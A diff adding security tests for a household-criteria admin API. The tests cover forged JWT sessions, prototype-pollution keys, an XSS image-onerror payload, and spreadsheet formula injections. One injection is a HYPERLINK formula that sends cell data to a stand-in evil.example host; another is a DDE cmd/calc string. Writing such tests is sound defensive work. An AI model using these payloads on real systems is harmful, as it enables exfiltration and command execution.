@@ -1,0 +1,169 @@
+/**
+ * Attacks on the live criteria adoption (issue 15, brief F), through the real app over a real SQLite
+ * file and the real recount worker thread: every role and forged sessions, hostile content (prototype
+ * keys, placeholders, HTML, formulas, bidi, huge bodies), and the readers after a criterion is removed
+ * or renamed (a queued answer for it, the gaps the nudges use, a week frozen under the old set).
+ * After each scenario the kept counts equal a recount (0 differences) and the segments' check is empty.
+ */
+import { afterEach, describe, expect, it } from "vitest";
+import type { CatalogueView, HouseholdView } from "../../shared/contracts";
+import type { CriteriaAdminView, CriteriaAdoptResponse } from "../../shared/contracts/criteria";
+import { createGdsApp, DEMO, key, type GdsTestApp } from "../households/support";
+
+let t: GdsTestApp | undefined;
+afterEach(async () => {
+  await t?.close();
+  t = undefined;
+});
+
+const LEFT = "ung-dung-nong-nghiep";
+const RENAMED = "vneid-muc-2";
+const OWN = {
+  id: "hoc-ky-nang-so",
+  pillar: "xa-hoi-so" as const,
+  label: "Có người trong hộ học lớp kỹ năng số của xã",
+  help: "Đạt khi có ít nhất một người trong hộ đã học một buổi kỹ năng số do xã tổ chức.",
+  relevance: { mayDecline: false },
+};
+
+async function app(): Promise<GdsTestApp> {
+  t = await createGdsApp({ env: { DB_SYNCHRONOUS: "NORMAL", RATE_LIMIT_PER_MINUTE: "1000000" } });
+  return t;
+}
+
+async function household(g: GdsTestApp, user: string, villageId: string, label: string): Promise<HouseholdView> {
+  const r = await g.call<HouseholdView>(user, "POST", "/api/households", { villageId, label, flags: {} });
+  expect(r.status, JSON.stringify(r.body)).toBe(201);
+  const cat = (await g.call<CatalogueView>(user, "GET", "/api/catalogue")).body;
+  const changes = cat.criteria.filter((c) => !c.relevance.flags).map((c, i) => ({ criterionId: c.id, value: i % 3 === 2 ? "chua_dat" : "dat", idempotencyKey: key() }));
+  expect((await g.call(user, "POST", `/api/households/${r.body.id}/answers`, { changes })).status).toBe(200);
+  return r.body;
+}
+
+async function view(g: GdsTestApp): Promise<CriteriaAdminView> {
+  const v = await g.call<CriteriaAdminView>(DEMO.admin, "GET", "/api/admin/criteria");
+  expect(v.status).toBe(200);
+  return v.body;
+}
+
+/** The numbers stay right: the kept counts equal a recount, households' and segments' alike. */
+async function numbersRight(g: GdsTestApp): Promise<void> {
+  const c = await g.call(DEMO.admin, "POST", "/api/admin/aggregates/check", { fix: false });
+  expect(c.status, JSON.stringify(c.body)).toBe(200);
+  expect(c.body.differences, JSON.stringify(c.body.samples)).toBe(0);
+  expect(g.services.segments.repo.check(false)).toEqual([]);
+}
+
+const raw = (g: GdsTestApp, who: string | null, url: string, payload: string) =>
+  g.app.inject({ method: "POST", url, headers: { ...(who ? g.as(who) : {}), "content-type": "application/json" }, payload });
+
+describe("who may read, preview and adopt the criteria", () => {
+  it("outsiders, forged or tampered sessions and every non-admin role are refused, and nothing changes", async () => {
+    const g = await app();
+    const before = await view(g);
+    const adopt = { baseVersion: before.version, choice: { exclude: [LEFT] } };
+    const good = g.as(DEMO.admin).authorization!;
+    const [head, payload, sig] = good.slice("Bearer ".length).split(".");
+    const tampered = [
+      "Bearer x.y.z",
+      `Bearer ${head}.${payload}.${sig?.slice(0, -2)}AA`,
+      `Bearer ${head}.${Buffer.from(JSON.stringify({ sub: DEMO.admin, admin: true })).toString("base64url")}.${sig}`,
+      good.replace("Bearer ", "Basic "),
+    ];
+    for (const [method, url, body] of [
+      ["GET", "/api/admin/criteria", undefined],
+      ["POST", "/api/admin/criteria/preview", { choice: { exclude: [LEFT] } }],
+      ["POST", "/api/admin/criteria", adopt],
+    ] as const) {
+      expect((await g.call(null, method, url, body)).status, `${method} ${url} outsider`).toBe(401);
+      for (const authorization of tampered) {
+        const r = await g.app.inject({ method, url, headers: { authorization }, ...(body ? { payload: body } : {}) });
+        expect(r.statusCode, `${method} ${url} ${authorization.slice(0, 20)}`).toBe(401);
+      }
+      for (const who of ["7001", DEMO.headDongXuan, DEMO.officer]) {
+        const r = await g.call(who, method, url, body);
+        expect(r.status, `${method} ${url} as ${who}`).toBe(403);
+        expect(r.body.error.message).toMatch(/quản trị viên/);
+      }
+    }
+    const after = await view(g);
+    expect(after.version).toBe(before.version);
+    expect(after.active.key).toBe(before.active.key);
+    expect(g.services.gds.liveCatalogue.running()).toBe(false);
+  });
+});
+
+describe("hostile content in a criteria choice", () => {
+  it("prototype keys, unknown placeholders, huge lists and bodies are refused in plain words and change nothing", async () => {
+    const g = await app();
+    const v = await view(g);
+    const url = "/api/admin/criteria";
+    const bad: [string, string][] = [
+      ["__proto__ in relabel", `{"baseVersion":${v.version},"choice":{"relabel":{"__proto__":{"label":"Tên mới bị chèn vào mọi đối tượng"}}}}`],
+      ["constructor in relabel", `{"baseVersion":${v.version},"choice":{"relabel":{"constructor":{"label":"Tên mới bị chèn vào mọi đối tượng"}}}}`],
+      ["__proto__ as the choice", `{"baseVersion":${v.version},"choice":{"__proto__":{"exclude":["${LEFT}"]},"exclude":["${LEFT}","__proto__"]}}`],
+      ["{{constructor}}", JSON.stringify({ baseVersion: v.version, choice: { extra: [{ ...OWN, label: "Biết dùng {{constructor}} của xã" }] } })],
+      ["{{__proto__.x}}", JSON.stringify({ baseVersion: v.version, choice: { extra: [{ ...OWN, help: "Đạt khi biết dùng {{__proto__.toString}} của xã." }] } })],
+      ["{{commune.constructor}}", JSON.stringify({ baseVersion: v.version, choice: { relabel: { [RENAMED]: { label: "Có tài khoản {{commune.constructor}} mức 2" } } } })],
+      ["10,000 excluded ids", JSON.stringify({ baseVersion: v.version, choice: { exclude: Array.from({ length: 10_000 }, (_, i) => `tieu-chi-${i}`) } })],
+      ["51 own criteria", JSON.stringify({ baseVersion: v.version, choice: { extra: Array.from({ length: 51 }, (_, i) => ({ ...OWN, id: `rieng-${i}` })) } })],
+      ["a label of 100 KB", JSON.stringify({ baseVersion: v.version, choice: { extra: [{ ...OWN, label: "a".repeat(100_000) }] } })],
+      ["only bidi and zero-width", JSON.stringify({ baseVersion: v.version, choice: { extra: [{ ...OWN, label: "\u202e\u2066\u200b\u200d\u2069\u202c\ufeff" }] } })],
+      ["not JSON", `{"baseVersion":${v.version},"choice":{"exclude":[`],
+    ];
+    for (const [what, body] of bad) {
+      const r = await raw(g, DEMO.admin, url, body);
+      expect([400, 413], `${what}: ${r.body.slice(0, 300)}`).toContain(r.statusCode);
+      const msg = r.json().error.message as string;
+      expect(msg, what).toMatch(/[ạảãáàâầấậẩẫăằắặẳẵêềếệểễôồốộổỗơờớợởỡưừứựửữđìíịỉĩòóọỏõùúụủũỳýỵỷỹ]/);
+      expect(msg, what).not.toMatch(/Máy chủ gặp lỗi|prototype|undefined|TypeError/);
+    }
+    expect(({} as Record<string, unknown>).label).toBeUndefined();
+    expect(Object.prototype.hasOwnProperty.call(Object.prototype, "exclude")).toBe(false);
+    const after = await view(g);
+    expect(after.version).toBe(v.version);
+    expect(after.active.key).toBe(v.active.key);
+  });
+
+  it("an own criterion named like a prototype property, with HTML and a spreadsheet formula, is stored as text and counted right", async () => {
+    const g = await app();
+    const h = await household(g, "7301", "thon-dong-xuan", "Hộ ông Đỗ Văn Năm");
+    const v = await view(g);
+    const html = `<img src=x onerror="alert(1)"> Có người trong hộ học lớp kỹ năng số`;
+    const formula = `=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")`;
+    const own = [
+      { ...OWN, id: "constructor", label: html },
+      { ...OWN, id: "to-string", label: formula, help: "+cmd|' /C calc'!A0 đạt khi có người học." },
+    ];
+    const adopt = await g.call<CriteriaAdoptResponse>(DEMO.admin, "POST", "/api/admin/criteria", { baseVersion: v.version, choice: { ...v.choice, extra: own } });
+    expect(adopt.status, JSON.stringify(adopt.body)).toBe(202);
+    await g.services.criteria.service.settled();
+    await numbersRight(g);
+
+    // The household sees both as unanswered (an unanswered "constructor" is not Object's constructor).
+    const hv = (await g.call("7301", "GET", `/api/households/${h.id}`)).body as { criteria: { id: string; status: string; label: string }[] };
+    expect(hv.criteria.find((c) => c.id === "constructor")).toMatchObject({ status: "unanswered", label: html });
+    expect(hv.criteria.find((c) => c.id === "to-string")).toMatchObject({ status: "unanswered", label: formula });
+    const ans = await g.call("7301", "POST", `/api/households/${h.id}/answers`, {
+      changes: [
+        { criterionId: "constructor", value: "dat", idempotencyKey: key() },
+        { criterionId: "to-string", value: "chua_dat", idempotencyKey: key() },
+      ],
+    });
+    expect(ans.status, JSON.stringify(ans.body)).toBe(200);
+    await numbersRight(g);
+    // The gaps the nudges send: the formula criterion is missing for this household, "constructor" is not.
+    const gaps = g.services.gds.reports.householdGaps(["thon-dong-xuan"], undefined);
+    expect(JSON.stringify(gaps)).not.toContain("constructor");
+
+    // The weekly CSV never starts a cell with a formula.
+    expect((await g.call(DEMO.admin, "POST", "/api/admin/snapshots/freeze")).status).toBe(200);
+    g.clock.advance(7 * 24 * 3600_000);
+    const frozen = await g.call(DEMO.admin, "POST", "/api/admin/snapshots/freeze");
+    expect(frozen.body.frozen).toBe(true);
+    const csv = await g.app.inject({ method: "GET", url: `/api/exports/${frozen.body.week}.csv?table=criteria`, headers: g.as(DEMO.officer) });
+    expect(csv.statusCode, csv.body.slice(0, 300)).toBe(200);
+    expect(csv.body).toContain("HYPERLINK");
+    for (const cell of csv.body.split(/\r?\n/).flatMap((l) => l.split(","))) expect(cell.replace(/^"/, ""), cell).not.toMatch(/^[=+@]/);
+  });
+});
